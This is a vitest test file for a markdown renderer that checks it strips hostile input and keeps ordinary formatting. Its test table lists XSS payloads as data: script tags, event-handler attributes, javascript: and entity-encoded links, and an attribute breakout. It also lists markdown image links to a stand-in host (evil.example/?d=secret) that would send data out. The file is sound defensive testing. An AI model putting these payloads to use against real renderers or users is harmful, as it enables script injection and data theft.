import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './renderMarkdown.ts';

describe('renderMarkdown', () => {
  it.each([
    ['script', '<script>alert(1)</script>hello', '<script'],
    ['event handler', '<p onclick="alert(1)">hello</p>', '<p onclick'],
    ['image', '![x](https://evil.example/?d=secret)', 'evil.example'],
    ['image by reference', '![x][1]\n\n[1]: https://evil.example/?d=secret', 'evil.example'],
    ['raw image', '<img src=x onerror=alert(1)>', '<img'],
    ['frame', '<iframe src="https://evil.example"></iframe>', '<iframe'],
    ['svg', '<svg onload=alert(1)></svg>', '<svg'],
    ['inline html', 'hello <b onmouseover=alert(1)>you</b>', '<b'],
    ['style', '<p style="background:url(https://evil.example)">x</p>', '<p style'],
    ['javascript link', '[x](javascript:alert(1))', 'javascript:'],
    ['entity javascript link', '[x](java&#115;cript:alert(1))', 'href'],
    ['data link', '[x](data:text/html,hello)', 'data:'],
    ['link that breaks out of its attribute', '[x](https://a.example/"onmouseover="alert(1))', '"onmouseover'],
    ['html in alternative text', '![<img src=x onerror=alert(1)>](https://evil.example)', '<img'],
  ])('drops %s', (_, text, trace) => {
    expect(renderMarkdown(text)).not.toContain(trace);
  });

  it('keeps the structure of an answer', () => {
    const html = renderMarkdown('**Yes.** See [the guide](https://example.com/guide):\n\n- one\n- two\n\n`npm start`');
    expect(html).toContain('<strong>Yes.</strong>');
    expect(html).toContain('<li>one</li>');
    expect(html).toContain('<code>npm start</code>');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
  });
});
